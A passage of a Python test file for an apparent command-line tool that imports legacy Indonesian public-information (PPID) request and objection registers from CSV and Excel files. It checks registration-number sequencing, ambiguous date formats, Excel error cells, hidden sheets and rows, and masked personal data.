        [HEAD, ["1", "3/6/2019", "Ani", "DPT 2019"], ["2", "4/6/2019", "Budi", "DCT 2019"],
         ["", "5/6/2019", "Citra", "SK 2019"]],
    )  # fmt: skip
    r = run.ok("impor", str(src), "--register", "permohonan", "--coba")
    # (the example is the file's own: it said 2024 for every book)
    assert ("2 nomor registrasi berupa angka saja dilengkapi menurut tanggal diterima (mis. 1 → "
            "001/PPID/5271/VI/2019)") in r.stdout  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan")
    got = {x["nama_pemohon"]: x for x in register_rows(ws)}
    assert got["Ani"]["nomor_registrasi"] == "001/PPID/5271/VI/2019"
    assert got["Ani"]["catatan"] == "nomor di berkas asal: 1"
    assert got["Citra"]["nomor_registrasi"] == "003/PPID/5271/VI/2019"
    assert "Sudah ada    : 3" in run.ok("impor", str(src), "--register", "permohonan").stdout
    run.ok("permohonan", "catat", *request_args, "--tanggal", "2026-11-20", "--tanpa-surat")
    assert "001/PPID/5271/XI/2026" in run.ok("permohonan", "lihat", "1").stdout


def test_nomor_urut_tidak_dipakai_dua_kali(run, ws, tmp_path, request_args):
    """The desk registered 001–003 in March 2026: a legacy "1" (January) or 003/…/II/2026 would
    give the same sequence twice in one year; a number led by its year counts by the other
    number in it (2026/PPID/015 is sequence 15, not 2026)."""
    for day in ("2026-03-02", "2026-03-03", "2026-04-01"):
        run.ok("permohonan", "catat", *request_args, "--tanggal", day, "--tanpa-surat")
    src = write_csv(
        tmp_path / "lama.csv",
        [HEAD, ["1", "5/1/2026", "Ani", "DPT"], ["003/PPID/5271/II/2026", "6/2/2026", "Budi", "DCT"],
         ["2026/PPID/015", "9/2/2026", "Citra", "SK"]],
    )  # fmt: skip
    r = run("impor", str(src), "--register", "permohonan", "--coba")
    assert ("baris 2, kolom No. Registrasi: nomor urut 001/PPID/5271/I/2026 sudah diberikan "
            "register permohonan kepada 001/PPID/5271/III/2026 pada tahun yang sama") in r.stdout  # fmt: skip
    assert "baris 3, kolom No. Registrasi: nomor urut 003/PPID/5271/II/2026 sudah diberikan" in (
        r.stdout
    )
    run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    out = run.ok("permohonan", "catat", *request_args, "--tanggal", "2026-04-02", "--tanpa-surat")
    assert "Nomor registrasi : 016/PPID/5271/IV/2026" in out.stdout


def test_keberatan_merujuk_permohonan_seperti_buku_lama(run, ws, tmp_path, request_args):
    """Objections name their request as legacy books do ("1", "002/ppid/5271/xi/2026"): linked to
    the register's number (the original kept as a note), and one on a request of a running
    election stage gets the 3-working-day response, as 'keberatan catat' gives it."""
    run.ok("tahapan", "tambah", "Pemilihan", "--mulai", "2026-11-01", "--selesai", "2026-12-31")
    run.ok("permohonan", "catat", *request_args, "--tanggal", "2026-11-16", "--tahapan",
           "Pemilihan", "--tanpa-surat")  # fmt: skip
    run.ok("permohonan", "catat", *request_args, "--tanggal", "2026-11-17", "--tanpa-surat")
    src = write_csv(
        tmp_path / "keb.csv",
        [["Tanggal Keberatan", "Nama Pemohon", "Nomor Registrasi Permohonan", "Alasan Keberatan"],
         ["18/11/2026", "Budi Santoso", "1", "c"],
         ["19/11/2026", "Budi Santoso", "002/ppid/5271/xi/2026", "c"]],
    )  # fmt: skip
    r = run.ok("impor", str(src), "--register", "keberatan")
    assert "merujuk nomor permohonan yang tidak ada" not in r.stderr
    one, two = register_rows(ws, "keberatan")
    assert (one["nomor_permohonan"], one["tahapan"], one["jatuh_tempo"]) == (
        "001/PPID/5271/XI/2026", "Pemilihan", "2026-11-23")  # fmt: skip
    assert (two["nomor_permohonan"], two["tahapan"]) == ("002/PPID/5271/XI/2026", "")
    assert "nomor permohonan di berkas asal: 002/ppid/5271/xi/2026" in two["catatan"]
    # a bare number is linked only to a request of the same person filed before the objection
    other = write_csv(
        tmp_path / "lain.csv",
        [["Tanggal Keberatan", "Nama Pemohon", "Nomor Registrasi Permohonan", "Alasan Keberatan"],
         ["16/11/2026", "Budi Santoso", "2", "c"], ["20/11/2026", "Dodi", "2", "c"]],
    )  # fmt: skip
    run.ok("impor", str(other), "--register", "keberatan")
    assert [x["nomor_permohonan"] for x in register_rows(ws, "keberatan")][2:] == ["2", "2"]


def test_kata_keputusan_dengan_rincian_disimpan_di_catatan(run, ws, tmp_path):
    """'Ditolak (dikecualikan, Pasal 17 huruf j)' is the code ditolak and words worth keeping;
    so is any decision wording beyond one word and its code (review migrasi M1: "data pribadi
    dihitamkan", "disarankan ke Bawaslu" were lost, kept only with a digit or a bracket)."""
    src = write_csv(
        tmp_path / "r.csv",
        [HEAD + ["Keputusan", "Tanggal Pemberitahuan"],
         ["", "2/11/2026", "Ani", "DPT", "Ditolak (dikecualikan, Pasal 17 huruf j)", "9/11/2026"],
         ["", "3/11/2026", "Budi", "DCT", "Diberikan, 10 November 2026", "10/11/2026"],
         ["", "4/11/2026", "Citra", "SK", "Dikabulkan", "10/11/2026"],
         ["", "5/11/2026", "Dodi", "SK", "Diberikan sebagian, data pribadi dihitamkan", "9/11/2026"],
         ["", "5/11/2026", "Eka", "SK", "Tidak dikuasai, disarankan ke Bawaslu", "9/11/2026"],
         ["", "5/11/2026", "Fajar", "SK", "Informasi diberikan seluruhnya", "9/11/2026"],
         ["", "5/11/2026", "Gita", "SK", "Diberikan Sebagian", "9/11/2026"]],
    )  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan")
    got = {x["nama_pemohon"]: (x["keputusan"], x["catatan"]) for x in register_rows(ws)}
    assert got == {
        "Ani": ("ditolak", "Keputusan: Ditolak (dikecualikan, Pasal 17 huruf j)"),
        "Budi": ("diberikan", "Keputusan: Diberikan, 10 November 2026"),
        "Citra": ("diberikan", ""),
        "Dodi": ("diberikan-sebagian", "Keputusan: Diberikan sebagian, data pribadi dihitamkan"),
        "Eka": ("tidak-dikuasai", "Keputusan: Tidak dikuasai, disarankan ke Bawaslu"),
        "Fajar": ("diberikan", ""),  # (nothing beyond its code)
        "Gita": ("diberikan-sebagian", ""),  # (the code's own spelling)
    }


def test_keberatan_tanpa_kolom_informasi_dikenali_dari_nomor_permohonan(run, ws, tmp_path):
    """The same objection in a book without an information column is already there: the
    request it concerns identifies it, not a second number."""
    head = ["Tanggal Keberatan", "Nama Pemohon", "Nomor Registrasi Permohonan", "Alasan Keberatan"]
    a = write_csv(
        tmp_path / "a.csv",
        [
            head + ["Informasi yang Diminta"],
            ["4/11/2026", "Dedi", "104/PPID/5271/X/2026", "c", "DPT"],
        ],
    )
    b = write_csv(tmp_path / "b.csv", [head, ["4/11/2026", "Dedi", "104/PPID/5271/X/2026", "c"]])
    run.ok("impor", str(a), "--register", "keberatan")
    r = run.ok("impor", str(b), "--register", "keberatan")
    assert "Sudah ada    : 1" in r.stdout and len(register_rows(ws, "keberatan")) == 1


def test_impor_ulang_dengan_langkah_baru_tidak_diam_diam_dilewati(run, ws, tmp_path):
    """The book got a decision after the first import: 'already there' would leave the case
    open and overdue; it is a problem that says what differs and how to record it."""
    head = HEAD + ["Keputusan", "Tanggal Pemberitahuan"]
    rows = [["001/PPID/5271/XI/2026", "2/11/2026", "Ani", "DPT", "", ""]]
    src = write_csv(tmp_path / "a.csv", [head, *rows])
    run.ok("impor", str(src), "--register", "permohonan")
    rows[0][4:] = ["Diberikan", "9/11/2026"]
    write_csv(src, [head, *rows])
    r = run.refused("impor", str(src), "--register", "permohonan", message="bermasalah")
    assert ("nomor 001/PPID/5271/XI/2026 sudah ada di register permohonan, tetapi kolom "
            "keputusan berisi 'diberikan' di berkas dan '' di register") in r.stderr  # fmt: skip


def test_keberatan_yang_diimpor_sebelum_permohonannya_tidak_digandakan(run, ws, tmp_path):
    """Objections imported first keep the request number as written ("1"); once the requests
    are imported, re-importing the objections finds them, not new cases."""
    keb = write_csv(
        tmp_path / "keb.csv",
        [["Tanggal Keberatan", "Nama Pemohon", "Nomor Registrasi Permohonan", "Alasan Keberatan"],
         ["20/11/2026", "Ani", "1", "c"]],
    )  # fmt: skip
    run.ok("impor", str(keb), "--register", "keberatan")
    per = write_csv(tmp_path / "per.csv", [HEAD, ["1", "2/11/2026", "Ani", "DPT"]])
    run.ok("impor", str(per), "--register", "permohonan")
    r = run.ok("impor", str(keb), "--register", "keberatan")
    assert "Sudah ada    : 1" in r.stdout and len(register_rows(ws, "keberatan")) == 1


def test_galat_excel_dan_rumus_tanpa_nilai_adalah_masalah_baris(run, ws, tmp_path):
    """An Excel error (a cell of the .xlsx, or the literal a CSV holds) and a formula never
    calculated (openpyxl writes none) are problems of their cell, named as such: never a value,
    never 'wajib diisi … kosong', never a new number for an unreadable one."""
    xlsx = write_xlsx(tmp_path / "g.xlsx", {"S": [
        ["No", *HEAD, "Keputusan", "Tanggal Pemberitahuan"],
        [1, "001/PPID/5271/III/2026", "02/03/2026", "Ani", "Info 1", "", ""],
        [2, "#N/A", "03/03/2026", "Budi", "Info 2", "", ""],  # (openpyxl: an error cell)
        [3, "003/PPID/5271/III/2026", "04/03/2026", "Cici", "Info 3", "Diberikan", "=C4+3"],
        [4, "004/PPID/5271/III/2026", "05/03/2026", '=CONCATENATE("D","ewi")', "Info 4", "", ""],
    ]})  # fmt: skip
    r = run.refused("impor", str(xlsx), "--register", "permohonan", message="3 dari 4 baris")
    assert problem_lines(r.stderr) == [
        "baris 3, kolom No. Registrasi: galat Excel #N/A di sel",
        "baris 4, kolom Tanggal Pemberitahuan: rumus tanpa nilai tersimpan — buka dan simpan "
        "ulang berkas di Excel/LibreOffice",
        "baris 5, kolom Nama: rumus tanpa nilai tersimpan — buka dan simpan ulang berkas di "
        "Excel/LibreOffice",
    ]
    src = write_csv(tmp_path / "g.csv", [
        ["No", *HEAD], [1, "#N/A", "05/01/2026", "Ani", "Info 1"],
        [2, "002/PPID/5271/I/2026", "06/01/2026", "#REF!", "Info 2"],
        [3, "003/PPID/5271/I/2026", "#DIV/0!", "Citra", "Info 3"],
        [4, "004/PPID/5271/I/2026", "07/01/2026", "Dewi", "#NAME?"],
    ], sep=";")  # fmt: skip
    r = run.refused("impor", str(src), "--register", "permohonan", message="4 dari 4 baris")
    assert problem_lines(r.stderr) == [
        "baris 2, kolom No. Registrasi: galat Excel #N/A di sel",
        "baris 3, kolom Nama: galat Excel #REF! di sel",
        "baris 4, kolom Tanggal: galat Excel #DIV/0! di sel",
        "baris 5, kolom Informasi yang Diminta: galat Excel #NAME? di sel",
    ]


def test_rumus_tanpa_nilai_di_kolom_no_yang_hanya_menghitung_bukan_masalah(run, ws, tmp_path):
    """A book a script edited (openpyxl keeps =A2+1 without its value) refused every row for
    its "No." column, which only counts rows when the registration number has its own column
    (review migrasi L6); where No. may hold the number, it stays a problem."""
    rows = [["No", *HEAD], [1, "001/PPID/5271/III/2026", "02/03/2026", "Ani", "Info 1"],
            ["=A2+1", "002/PPID/5271/III/2026", "03/03/2026", "Budi", "Info 2"]]  # fmt: skip
    run.ok("impor", str(write_xlsx(tmp_path / "a.xlsx", {"S": rows})), "--register", "permohonan")
    assert [r["nama_pemohon"] for r in register_rows(ws)] == ["Ani", "Budi"]
    alone = [
        ["No", *HEAD[1:]],
        [1, "04/03/2026", "Cici", "Info 3"],
        ["=A2+1", "05/03/2026", "Dodi", "Info 4"],
    ]  # (no registration column) fmt: skip
    r = run.refused("impor", str(write_xlsx(tmp_path / "b.xlsx", {"S": alone})), "--register",
                    "permohonan", "--coba", message="1 dari 2 baris")  # fmt: skip
    assert "baris 3, kolom No: rumus tanpa nilai tersimpan" in r.stdout


def test_waktu_diterima_dari_kolom_jam_atau_sel_tanggal(run, ws, tmp_path):
    """A time-of-day column (a time cell, '09.15 WITA', '09:15') is put on the row's receipt
    date, and a date cell's own time is kept, in the office's UTC offset as the desk stores it;
    a time that cannot be read, or that falls on another day, is a problem of its row. An
    evening time is no date "in the future" (20:00–23:59 were refused: "20:30:00" > "2026-…")."""
    import datetime as dt

    src = write_xlsx(tmp_path / "w.xlsx", {"S": [
        [*HEAD, "Waktu Diterima"],
        ["001/PPID/5271/III/2026", dt.date(2026, 3, 2), "Ani", "Info 1", dt.time(20, 30)],
        ["002/PPID/5271/III/2026", dt.date(2026, 3, 3), "Budi", "Info 2", "21.15 WITA"],
        ["003/PPID/5271/III/2026", "04/03/2026", "Cici", "Info 3", "pukul 14:05"],
        ["004/PPID/5271/III/2026", dt.datetime(2026, 3, 5, 10, 30), "Dewi", "Info 4", None],
        ["005/PPID/5271/III/2026", dt.date(2026, 3, 6), "Eko", "Info 5", "jam sembilan"],
        ["006/PPID/5271/III/2026", dt.date(2026, 3, 6), "Fina", "Info 6",
         dt.datetime(2026, 3, 7, 8, 0)],
    ]})  # fmt: skip
    r = run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    got = {row["nama_pemohon"]: row["waktu_diterima"] for row in register_rows(ws)}
    assert got == {
        "Ani": "2026-03-02T20:30+08:00",
        "Budi": "2026-03-03T21:15+08:00",
        "Cici": "2026-03-04T14:05+08:00",
        "Dewi": "2026-03-05T10:30+08:00",
    }
    assert problem_lines(r.stderr) == [
        "baris 6, kolom Waktu Diterima: waktu 'jam sembilan' tidak dikenali (tulis mis. 09.15, "
        "09:15 WITA atau 10/03/2026 09:15)",
        "baris 7, kolom Waktu Diterima: waktu 2026-03-07 08:00 tidak pada tanggal diterima "
        "2026-03-06",
    ]


def test_tanggal_bulan_dulu_dan_nomor_yang_menyebut_bulan(run, ws, tmp_path):
    """A slash date column shown month-first by 1/20/2026 makes each value that reads both
    ways a problem, never read day-first silently; a receipt date whose month or year the
    office-pattern number contradicts is a problem naming both."""
    src = write_csv(tmp_path / "us.csv", [
        HEAD,
        ["001/PPID/5271/I/2026", "1/5/2026", "Ani", "Info 1"],
        ["002/PPID/5271/I/2026", "1/20/2026", "Budi", "Info 2"],
        ["003/PPID/5271/II/2026", "2/2/2026", "Citra", "Info 3"],  # the same both ways
        ["004/PPID/5271/III/2026", "Selasa, 3 Februari 2026", "Dewi", "Info 4"],
    ])  # fmt: skip
    r = run.refused("impor", str(src), "--register", "permohonan", message="3 dari 4 baris")
    assert problem_lines(r.stderr) == [
        "baris 2, kolom Tanggal: tanggal diterima 2026-05-01 tidak cocok dengan nomor "
        "001/PPID/5271/I/2026 (bulan/tahun I 2026)",
        "baris 2, kolom Tanggal: kolom ini tampak bulan-dulu (baris 3: '1/20/2026'), sehingga "
        "'1/5/2026' bisa dibaca dua arah; tulis tanggalnya dengan nama bulan, mis. 5 Januari 2026",
        "baris 3, kolom Tanggal: tanggal '1/20/2026' tidak ada (bulan 20; tampak ditulis "
        "bulan-dulu)",
        "baris 5, kolom Tanggal: tanggal diterima 2026-02-03 tidak cocok dengan nomor "
        "004/PPID/5271/III/2026 (bulan/tahun III 2026)",
    ]


def test_tanggal_excel_yang_ditukar_excel_berbahasa_inggris(run, ws, tmp_path):
    """Dates typed day-first into a month-first (English) Excel: 05/01/2026 became the date cell
    1 May, 13-01-2026 stayed text. Such a date cell (day <= 12) in a column with day-first text
    is a problem naming both readings (review migrasi H1: imported as 1 May, numbered V, no
    word); day = month cannot be swapped. Not in an Indonesian book where one cell is text: a
    date cell with a day over 12 shows its Excel reads day-first (review sesi27 H1: 23 of 62
    rows refused, and the advice wrote the swapped date), nor when text reads both ways."""
    from datetime import datetime

    rows = [
        HEAD,
        ["", datetime(2026, 5, 1), "Ani", "Info 1"],  # typed 05/01/2026
        ["", "13-01-2026", "Budi", "Info 2"],  # (dashes too: sesi27 M1)
        ["", datetime(2026, 2, 2), "Citra", "Info 3"],  # 02/02: the same both ways
        ["", datetime(2026, 9, 2), "Eka", "Info 5"],  # typed 09/02/2026
    ]
    src = write_xlsx(tmp_path / "en.xlsx", {"Register": rows})
    r = run.refused("impor", str(src), "--register", "permohonan", message="2 dari 4 baris")
    ingat = "tanda Excel berbahasa Inggris yang membaca"
    assert problem_lines(r.stderr) == [
        "baris 2, kolom Tanggal: tanggal Excel 1 Mei 2026 mungkin tertukar: kolom ini juga "
        f"memuat teks hari-dulu yang tidak dijadikan tanggal (baris 3: '13-01-2026'), {ingat} "
        "'05/01/2026' bulan-dulu — 1 Mei 2026 atau 5 Januari 2026? Lihat dokumen "
        "permohonannya, lalu tulis tanggalnya dengan nama bulan",
        "baris 5, kolom Tanggal: tanggal Excel 2 September 2026 mungkin tertukar: kolom ini "
        f"juga memuat teks hari-dulu yang tidak dijadikan tanggal (baris 3: '13-01-2026'), {ingat} "
        "'09/02/2026' bulan-dulu — 2 September 2026 atau 9 Februari 2026? Lihat dokumen "
        "permohonannya, lalu tulis tanggalnya dengan nama bulan",
    ]
    for extra, name in (([datetime(2026, 1, 20)], "indo"), (["05/03/2026"], "campur")):
        book = write_xlsx(tmp_path / f"{name}.xlsx",
                          {"Register": [*rows, ["", *extra, f"Dewi {name}", "Info 6"]]})  # fmt: skip
        run.ok("impor", str(book), "--register", "permohonan", "--coba")  # (no problem)
    run.ok("impor", str(book), "--register", "permohonan")
    got = {row["nama_pemohon"]: row["tanggal_diterima"] for row in register_rows(ws)}
    assert got["Ani"] == "2026-05-01" and got["Eka"] == "2026-09-02" and len(got) == 5


def test_satu_salah_ketik_bulan_dulu_di_kolom_hari_dulu(run, ws, tmp_path):
    """One typo (3/17/2026) in a column other values show day-first (16/03/2026) is that row's
    problem alone: it marked the whole column month-first and refused good rows."""
    src = write_csv(tmp_path / "typo.csv", [
        HEAD,
        ["001/PPID/5271/III/2026", "02/03/2026", "Ani", "Info 1"],
        ["002/PPID/5271/III/2026", "16/03/2026", "Budi", "Info 2"],
        ["003/PPID/5271/III/2026", "3/17/2026", "Citra", "Info 3"],
        ["004/PPID/5271/III/2026", "09/03/2026", "Dewi", "Info 4"],
    ])  # fmt: skip
    r = run.refused("impor", str(src), "--register", "permohonan", message="1 dari 4 baris")
    assert problem_lines(r.stderr) == [
        "baris 4, kolom Tanggal: tanggal '3/17/2026' tidak ada (bulan 17; tampak ditulis "
        "bulan-dulu)",
    ]


def test_lembar_tersembunyi_hanya_dibaca_bila_dipilih(run, ws, tmp_path):
    """A hidden sheet (a filled-in example) is skipped when the sheet is chosen automatically
    and with --lembar ALL, and said so; it is read only when named; --daftar-lembar marks it."""
    wb = Workbook()
    contoh = wb.active
    contoh.title = "Contoh"
    contoh.append(HEAD)
    contoh.append(["001/PPID/5271/I/2026", "5/1/2026", "CONTOH NAMA", "contoh isian"])
    contoh.sheet_state = "hidden"
    reg = wb.create_sheet("2026")
    reg.append(HEAD)
    reg.append(["001/PPID/5271/II/2026", "2/2/2026", "Ani", "Salinan DPT"])
    wb.active = 1
    src = tmp_path / "h.xlsx"
    wb.save(src)
    assert run.ok("impor", str(src), "--daftar-lembar").stdout.splitlines() == [
        "Contoh (tersembunyi)", "2026"]  # fmt: skip
    for lembar in ([], ["--lembar", "ALL"]):
        j = json.loads(run.ok("impor", str(src), "--register", "permohonan", "--coba",
                              "--format", "json", *lembar).stdout)  # fmt: skip
        assert [t["lembar"] for t in j["tabel"]] == ["2026"]
        assert [b["data"]["nama_pemohon"] for b in j["baris"]] == ["Ani"]
        assert j["tabel"][0]["keterangan"][0] == (
            "lembar tersembunyi tidak dibaca: 'Contoh' (baca dengan --lembar NAMA)")  # fmt: skip
    j = json.loads(run.ok("impor", str(src), "--register", "permohonan", "--coba",
                          "--format", "json", "--lembar", "Contoh").stdout)  # fmt: skip
    assert [b["data"]["nama_pemohon"] for b in j["baris"]] == ["CONTOH NAMA"]
    # the table only on a hidden sheet: the refusal names it (it named only the visible one)
    reg.delete_rows(1, 2)
    reg.append(["Catatan migrasi"])
    wb.save(src)
    run.refused(
        "impor", str(src), "--register", "permohonan", "--coba",
        message="lembar tersembunyi tidak dibaca: 'Contoh' — baca dengan --lembar NAMA",
    )  # fmt: skip


def test_an_undated_order_in_an_old_book_is_owed_in_the_reports_as_jatuh_tempo_lists_it(run):
    # the sample objection book grants objections without a response date: jatuh-tempo listed
    # the refused requests as owing the delivery ("dikabulkan … pada -"); the report never
    # counted them (the order's day was NaT), before or after the delivery was recorded
    run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    run.ok("impor", str(KEB), "--register", "keberatan", "--lewati-baris-bermasalah")

    def owed():
        due = json.loads(run.ok("jatuh-tempo", "--format", "json").stdout)
        lap = json.loads(
            run.ok("laporan", "bulanan", "--bulan", "2026-11", "--format", "json").stdout
        )
        listed = [d["nomor_registrasi"] for d in due if "pada -" in (d["jenis_tenggat"] or "")]
        return listed, lap["ringkasan"]["menunggu_penyerahan"]

    listed, before = owed()
    assert len(listed) == 4
    for nomor in listed:
        run.ok("permohonan", "selesai", nomor, "--tanggal", "2024-12-30")
    assert owed() == ([], before - 4)


def test_a_continuation_row_is_told_once_not_as_empty_required_cells(run, ws, tmp_path):
    # under merged No./Tanggal/Nama cells the row also got "Tanggal/Nama wajib diisi … tetapi
    # kosong" — the very reading the continuation message replaced
    from openpyxl import Workbook

    wb = Workbook()
    sh = wb.active
    for row in (["No", "Tanggal", "Nama Pemohon", "Informasi yang Diminta"],
                [1, "02/01/2024", "Ani", "1. Salinan DPT Ampenan"],
                [None, None, None, "2. Salinan DPT Cakranegara"],
                [2, "03/01/2024", "Budi", "DCT"]):  # fmt: skip
        sh.append(row)
    for col in "ABC":
        sh.merge_cells(f"{col}2:{col}3")
    src = tmp_path / "gabung.xlsx"
    wb.save(src)
    j = json.loads(run.refused("impor", str(src), "--register", "permohonan", "--coba",
                               "--format", "json", message="1 dari 3 baris").stdout)  # fmt: skip
    assert [(m["baris"], m["pesan"][:36]) for m in j["masalah"]] == [
        (3, "tampak lanjutan perkara di baris 2 (")
    ]


def test_steps_an_old_register_holds_without_dates_are_told_in_the_reports(run):
    # the sample objection book has no date for the Atasan's response nor the requester's
    # answer: the 2024 report said 0 responses, 0 disputes, with no word (the tables count
    # steps by their dates, and a date is never made up)
    run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    run.ok("impor", str(KEB), "--register", "keberatan", "--lewati-baris-bermasalah")
    lap = json.loads(run.ok("laporan", "tahunan", "--tahun", "2024", "--format", "json").stdout)
    assert lap["ringkasan"]["keberatan_ditanggapi"] == 0  # (none dated)
    assert (
        "Dari perkara yang diterima pada periode ini, 16 keberatan tercatat ditanggapi Atasan "
        "PPID (10 dikabulkan, 6 ditolak); 7 tanggapan tercatat diterima pemohon dan 9 keberatan "
        "tercatat dibawa ke Komisi Informasi tanpa tanggal langkahnya (register lama yang "
        "diimpor tidak mencatatnya)"
    ) in lap["catatan"][-2]
    # beside the narrative's figures too, not only in the method notes at the end
    out = run.root.parent / "laporan-2024.docx"
    run.ok("laporan", "tahunan", "--tahun", "2024", "-o", str(out))
    text = docx_text(out)
    section = text[text.index("IV. Rincian Penyelesaian") : text.index("V. Standar Layanan")]
    assert "16 keberatan tercatat ditanggapi Atasan PPID (10 dikabulkan, 6 ditolak)" in section
    # and beside the next year's comparison with it ("Keberatan ditanggapi 0 → 26" said nothing)
    lap = json.loads(run.ok("laporan", "tahunan", "--tahun", "2025", "--format", "json").stdout)
    assert (
        "Dari perkara yang diterima pada tahun 2024, 16 keberatan tercatat ditanggapi Atasan PPID"
        in lap["tabel"]["pembanding"]["catatan"]
    )
    # such a response is one: not "closed without a response" (it was said of 004, answered)
    run.refused(
        "keberatan", "tanggapi", "004/KEB/PPID/5271/II/2024", "--keputusan", "diterima",
        "--tanggal", "2024-03-01", "--tanpa-surat",
        message="keberatan 004/KEB/PPID/5271/II/2024 sudah ditanggapi pada - (diterima)",
    )  # fmt: skip


def test_a_sequence_deleted_in_another_month_is_neither_assigned_nor_imported(run, ws, tmp_path):
    # 003/…/III given and deleted: April's 003/…/IV is another string but the same sequence
    for _ in range(3):
        run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-03-16", "--tanpa-surat")
    run.ok("permohonan", "teruskan", "1", "--tanggal", "2026-03-17")
    path = ws.register_path("permohonan")
    lines = path.read_bytes().split(b"\r\n")
    path.write_bytes(b"\r\n".join(lines[:-2] + lines[-1:]))
    run("periksa", "--terima-perubahan", "--catatan", "003 ganda, dihapus")
    src = write_csv(
        tmp_path / "a.csv",
        [
            HEAD,
            ["", "2/4/2026", "Ani", "Salinan DPT"],
            ["003/PPID/5271/V/2026", "4/5/2026", "Budi", "DCT"],
        ],
    )
    p = svc.plan(ws, src, "permohonan")
    assert [b.nomor_baru for b in p.impor] == ["004/PPID/5271/IV/2026"]
    assert [m.teks() for m in p.masalah] == [
        "baris 3, kolom No. Registrasi: nomor urut 003/PPID/5271/V/2026 sudah dipakai "
        "003/PPID/5271/III/2026 pada tahun yang sama (nomor urut tidak boleh dipakai dua kali)"
    ]


def test_baris_tersembunyi_diimpor_dan_disebut(run, ws, tmp_path):
    """A row hidden in Excel (Hide, a filter left on, a collapsed group) is imported like any
    other — nothing lost — and named, since an office sometimes hides a cancelled or test entry
    instead of deleting it; a hidden row outside the table is not a case and is not named."""
    wb = Workbook()
    sh = wb.active
    sh.append(["No", *HEAD])
    for i in range(1, 15):
        sh.append([i, f"{i:03d}/PPID/5271/III/2026", f"{i + 1:02d}/03/2026", f"N{i}", "DPT"])
    for r in (3, 5, *range(7, 16), 18):  # (18: below the table)
        sh.row_dimensions[r].hidden = True
    wb.save(tmp_path / "h.xlsx")
    pesan = (
        "Peringatan: lembar 'Sheet' baris 3, 5, 7, 8, 9, 10, 11, 12, 13, 14 dan 1 baris lain "
        "disembunyikan di berkas (Sembunyikan, filter, atau grup yang diciutkan) dan tetap "
        "dibaca sebagai perkara — bila ada yang bukan perkara (dibatalkan, contoh, uji coba), "
        "hapus barisnya di berkas lalu impor ulang"
    )
    r = run.ok("impor", str(tmp_path / "h.xlsx"), "--register", "permohonan", "--coba")
    assert pesan in r.stderr.replace("\n", " ")
    r = run.ok("impor", str(tmp_path / "h.xlsx"), "--register", "permohonan")
    assert pesan in r.stderr.replace("\n", " ")
    assert [row["nama_pemohon"] for row in register_rows(ws)] == [f"N{i}" for i in range(1, 15)]


def test_nomor_paspor_atau_akta_di_kolom_nik_dibaca_menurut_jenis_identitas(run, ws, tmp_path):
    """A register ppidctl wrote keeps a passport's or a deed's number in its nik column, with
    jenis_identitas paspor|lainnya (as the desk records it): imported as written, not refused as
    a NIK that is no number; a row that says ktp (or says nothing) still needs a real NIK."""
    src = write_csv(tmp_path / "id.csv", [
        ["nomor_registrasi", "tanggal_diterima", "nama_pemohon", "jenis_identitas", "nik",
         "informasi_diminta"],
        ["001/PPID/5271/XI/2026", "2026-11-02", "Bob Smith", "paspor", "C01234567", "DPT"],
        ["002/PPID/5271/XI/2026", "2026-11-02", "PT Maju", "lainnya",
         "AHU-0012345.AH.01.04.Tahun 2015", "DPT"],
        ["003/PPID/5271/XI/2026", "2026-11-02", "Ani", "ktp", "C0123", "DPT"],
        ["004/PPID/5271/XI/2026", "2026-11-02", "Budi", "", "5271011203900001", "DPT"],
    ])  # fmt: skip
    r = run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    assert problem_lines(r.stderr) == ["baris 4, kolom nik: NIK 'C0123' bukan angka"]
    got = {row["nama_pemohon"]: (row["jenis_identitas"], row["nik"]) for row in register_rows(ws)}
    assert got == {
        "Bob Smith": ("paspor", "C01234567"),
        "PT Maju": ("lainnya", "AHU-0012345.AH.01.04.Tahun 2015"),
        "Budi": ("", "5271011203900001"),
    }


def test_data_pribadi_yang_disamarkan_tidak_disimpan_sebagai_data(run, ws, tmp_path):
    """An export or report made without --tanpa-sensor masks personal data (…, Mataram;
    b***@example.com; 0812******90; 5271**********01): importing it would store the masks as
    the requester's address and e-mail. Each masked cell is a problem of its row, named as
    such; stars that mask nothing (emphasis in a request) are text."""
    src = write_csv(tmp_path / "sensor.csv", [
        [*HEAD, "alamat", "email", "nik", "telepon", "catatan"],
        ["001/PPID/5271/XI/2026", "02/11/2026", "Ani", "DPT", "…, Mataram", "a***@example.com",
         "", "", ""],
        ["002/PPID/5271/XI/2026", "02/11/2026", "Budi", "DPT", "…", "", "5271**********01",
         "0812******90", "telp 0812******90"],
        ["003/PPID/5271/XI/2026", "02/11/2026", "Cici", "***PENTING*** DPT", "Jl. A, Mataram",
         "cici@example.com", "", "0812-3456-7890", "**catatan** 3 lembar"],
    ])  # fmt: skip
    before = snapshot(ws.root)
    r = run.refused("impor", str(src), "--register", "permohonan", message="2 dari 3 baris")
    assert snapshot(ws.root) == before
    masked = (
        "berkas ini ekspor atau laporan yang disensor — impor dari ekspor --tanpa-sensor "
        "atau dari register aslinya"
    )
    assert problem_lines(r.stderr) == [
        f"baris 2, kolom alamat: data pribadi disamarkan ('…, Mataram'): {masked}",
        f"baris 2, kolom email: data pribadi disamarkan ('a***@example.com'): {masked}",
        f"baris 3, kolom alamat: data pribadi disamarkan ('…'): {masked}",
        f"baris 3, kolom nik: data pribadi disamarkan ('5271**********01'): {masked}",
        f"baris 3, kolom telepon: data pribadi disamarkan ('0812******90'): {masked}",
        f"baris 3, kolom catatan: data pribadi disamarkan ('telp 0812******90'): {masked}",
    ]


def test_nomor_baris_yang_ditolak_ditahan_untuk_barisnya_sendiri(run, ws, tmp_path):
    """The number of a legacy row the import refuses was given by the old book to a real
    requester: `catat` never gives it again (rules.md §6), nor does the import to a row without
    a number, while the corrected row imports with it; the register book names it until then."""
    from openpyxl import load_workbook

    src = write_csv(tmp_path / "lama.csv", [
        HEAD,
        ["001/PPID/5271/I/2026", "05/01/2026", "Ani", "DPT"],
        ["002/PPID/5271/I/2026", "06/01/2026", "Budi", "DPT"],
        ["003/PPID/5271/I/2026", "31/02/2026", "Citra", "DPT"],  # (no such day)
    ])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
